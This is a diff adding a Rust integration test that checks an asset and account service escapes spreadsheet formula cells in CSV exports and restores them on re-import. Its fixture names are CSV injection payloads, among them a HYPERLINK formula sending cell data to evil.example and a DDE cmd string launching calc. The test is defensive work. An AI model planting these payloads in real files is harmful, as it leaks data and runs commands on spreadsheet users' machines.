@@ -215,3 +215,151 @@ async fn csv_imports_report_bad_rows_and_exports_keep_secrets_back_unless_asked(
     assert!(!audit.to_string().contains("canary-csv-secret"));
     app.stop().await;
 }
+
+/// Parses a CSV export into rows of cells.
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// Whether a spreadsheet would run the cell as a formula.
+fn live_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[tokio::test]
+async fn formula_cells_come_out_inert_in_both_exports_and_import_back_unchanged() {
+    let clock = Arc::new(ManualClock::new(Utc::now()));
+    let app = TestApp::spawn_on(StoreKind::Sqlite, clock.clone()).await;
+    app.activate_admin().await;
+    let token = app.admin_token().await;
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&G2,\"x\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd",
+        "-2+3",
+    ];
+    for (i, name) in names.iter().enumerate() {
+        ok(
+            &app,
+            &token,
+            Method::POST,
+            "/api/v1/assets",
+            Some(json!({"name": name, "address": format!("10.0.0.{}", i + 1),
+                        "platform": "linux", "comment": "=1+1"})),
+            201,
+        )
+        .await;
+    }
+    let (status, body) = post_csv(
+        &app,
+        &token,
+        "/api/v1/accounts/import",
+        &format!(
+            "asset,username,secret\n\"{}\",root,=canary-formula-secret\n",
+            names[0].replace('"', "\"\"")
+        ),
+    )
+    .await;
+    assert_eq!(
+        (status, body["imported"].as_u64()),
+        (200, Some(1)),
+        "{body}"
+    );
+
+    let assets = Client::new()
+        .get(app.url("/api/v1/assets/export"))
+        .bearer_auth(&token)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let authenticator = Authenticator::enrol(&app, &token, clock.clone()).await;
+    let accounts = Client::new()
+        .post(app.url("/api/v1/accounts/export"))
+        .bearer_auth(&token)
+        .json(&json!({"include_secrets": true, "totp": authenticator.fresh_code()}))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let plain = Client::new()
+        .post(app.url("/api/v1/accounts/export"))
+        .bearer_auth(&token)
+        .json(&json!({}))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    for text in [&assets, &accounts, &plain] {
+        let rows = csv_rows(text);
+        assert!(rows.len() >= 2, "{text}");
+        for cell in rows.iter().flatten() {
+            assert!(!live_formula(cell), "live formula cell {cell:?} in {text}");
+        }
+    }
+    let asset_rows = csv_rows(&assets);
+    for name in names {
+        assert!(
+            asset_rows.iter().any(|r| r[0] == format!("'{name}")),
+            "{name} guarded in {assets}"
+        );
+    }
+    let account_rows = csv_rows(&accounts);
+    assert_eq!(account_rows[1][0], format!("'{}", names[0]));
+    assert_eq!(account_rows[1][6], "'=canary-formula-secret");
+
+    // The guard is taken off on import: an export imports back as the same values.
+    let (status, body) = post_csv(
+        &app,
+        &token,
+        "/api/v1/accounts/import?skip_invalid=true",
+        &accounts.replace(",root,", ",root2,"),
+    )
+    .await;
+    assert_eq!(
+        (status, body["imported"].as_u64()),
+        (200, Some(1)),
+        "{body}"
+    );
+    let list = ok(
+        &app,
+        &token,
+        Method::GET,
+        "/api/v1/accounts?username=root2",
+        None,
+        200,
+    )
+    .await;
+    assert_eq!(list["items"][0]["asset_name"], names[0], "{list}");
+    let again = Client::new()
+        .post(app.url("/api/v1/accounts/export"))
+        .bearer_auth(&token)
+        .json(&json!({"include_secrets": true, "totp": authenticator.fresh_code()}))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let rows = csv_rows(&again);
+    let root2 = rows
+        .iter()
+        .find(|r| r[2] == "root2")
+        .expect("root2 exported");
+    assert_eq!(
+        root2[6], "'=canary-formula-secret",
+        "the secret kept its value"
+    );
+    app.stop().await;
+}
